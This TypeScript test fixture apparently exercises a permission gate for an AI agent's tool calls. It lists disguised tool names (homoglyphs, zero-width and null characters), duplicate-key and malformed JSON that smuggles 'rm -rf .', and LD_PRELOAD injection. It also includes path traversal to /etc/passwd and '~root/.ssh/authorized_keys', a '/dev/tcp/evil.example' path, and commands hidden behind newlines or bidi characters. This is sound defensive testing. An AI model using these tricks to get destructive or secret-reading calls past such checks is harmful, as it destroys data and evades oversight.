/** Calls whose tool, arguments or paths are not what they seem: names, shapes, depths, directories, marks nobody sees. */
import { type Family, file, raw, sh, tool } from "./forbidden.ts";

const unknown = ["constructor", "run_command"];
const looksKnown = [
  "__proto__",
  "toString",
  "hasOwnProperty",
  "Bash",
  "FILE_READ",
  "File_Write",
  "file_read ",
  " file_read",
  "file_reаd",
  "file_read\u200b",
  "file_read\u0000",
  "ｆile_read",
  "file_delete ",
  "delete\n",
  "force_push\u200d",
  "file_dеlete",
  "*",
  "",
];
const deep = (levels: number) => `${'{"a":'.repeat(levels)}1${"}".repeat(levels)}`;

export const names: Family = {
  family: "names and shapes",
  calls: [
    ...unknown.map((name) => tool(name, { path: "src/a.ts" }, "auto")),
    ...looksKnown.map((name) => tool(name, { path: "src/a.ts" })),
    // Of arguments: nothing, no object, not JSON, twice the same key, no canonical form, too deep, too much.
    raw("nothing", "shell_execute", ""),
    raw("not JSON", "shell_execute", "{command: 'ls'}"),
    raw("cut off", "shell_execute", '{"command":"ls"'),
    raw("two values", "shell_execute", '{"command":"ls"}{"command":"rm -rf ."}'),
    raw("a list", "shell_execute", '["ls"]'),
    raw("a text", "shell_execute", '"ls"'),
    raw("null", "shell_execute", "null"),
    raw("a number", "file_write", "1"),
    raw("the same key twice, the last hostile", "shell_execute", '{"command":"git status","command":"rm -rf ."}'),
    raw("the same key twice, the first hostile", "shell_execute", '{"command":"rm -rf .","command":"git status"}'),
    raw("the same key escaped", "shell_execute", '{"command":"git status","comm\\u0061nd":"rm -rf ."}'),
    raw("half a pair", "shell_execute", '{"command":"echo \\ud800"}'),
    raw("__proto__ with a command", "shell_execute", '{"__proto__":{"command":"ls"}}'),
    raw("a byte order mark", "shell_execute", '\ufeff{"command":"ls"}'),
    raw("NaN", "file_write", '{"path":NaN}'),
    raw("nested 65 deep", "file_write", deep(65)),
    raw(
      "nested 9 deep with a path",
      "file_read",
      `{"a":{"a":{"a":{"a":{"a":{"a":{"a":{"a":{"a":{"path":"/etc/passwd"}}}}}}}}}}`,
    ),
    raw("nested 100,000 deep", "file_read", deep(100_000)),
    raw("10 MB of command", "shell_execute", JSON.stringify({ command: `echo ${"a".repeat(10 * 1024 * 1024)}` })),
    raw("10 MB of path", "file_write", JSON.stringify({ path: "a/".repeat(5 * 1024 * 1024) })),
    tool("shell_execute", { command: ["rm", "-rf", "."] }),
    tool("shell_execute", { cmd: "rm -rf ." }),
    tool("shell_execute", { Command: "rm -rf ." }),
    tool("shell_execute", { command: "git status", shell: "/workspace/src/evil" }),
    tool("shell_execute", { command: "git status", env: { LD_PRELOAD: "src/x.so" } }),
    tool("shell_execute", { command: "git status", stdin: "x" }),
    tool("shell_execute", { command: "git status", args: ["; rm -rf ."] }),
    tool("shell_execute", { command: "" }, "auto"),
    // Where it would run.
    ...[
      "/",
      "..",
      "/etc",
      "src/../..",
      "~",
      "../workspace",
      "/workspace/../etc",
      ".git",
      ".git/hooks",
      "\u0000",
      "",
    ].map((cwd) => tool("shell_execute", { command: "touch x", cwd })),
    // What a terminal or a page would show otherwise.
    ...[
      "git status\nrm -rf .",
      "git status\r\nrm -rf .",
      "git status; rm -rf .",
      "git status # \u202e\n rm -rf .",
      "git status\u0000; rm -rf .",
      "git status \u2028 rm -rf .",
      "git stat\u200bus",
      "git status \u001b[2K",
      "git status && \u202etxt.evil",
    ].map((command) => sh(command)),
    ...[
      "/workspace/../etc/x",
      "..",
      "../",
      "src/\u0000x",
      "\u0000",
      "",
      "/workspacex/a",
      "//etc/passwd",
      "/proc/self/root/etc/passwd",
      "/dev/tcp/evil.example/80",
      "~root/.ssh/authorized_keys",
    ].map((path) => file("file_write", path)),
    // Odd to the eye, and by every byte a program that nobody listed: no wildcard speaks for it.
    ...["git\u00a0status", "gіt status", "echo ok ; ｒｍ -rf ."].map((command) => sh(command)),
    // And by every byte one file of the workspace: a call like any other where all may run, but no plain word.
    sh("git status ．．／．．", "auto"),
    // In a tool's own argument it is allowed with all of them.
    ...["src/..\u2215..\u2215x", "C:\\Windows\\x", "\\\\evil.example\\share", "file:///etc/passwd"].map((path) =>
      file("file_write", path, "grant", "auto"),
    ),
    file("file_write", "src/a.ts\n/etc/passwd"),
  ],
};
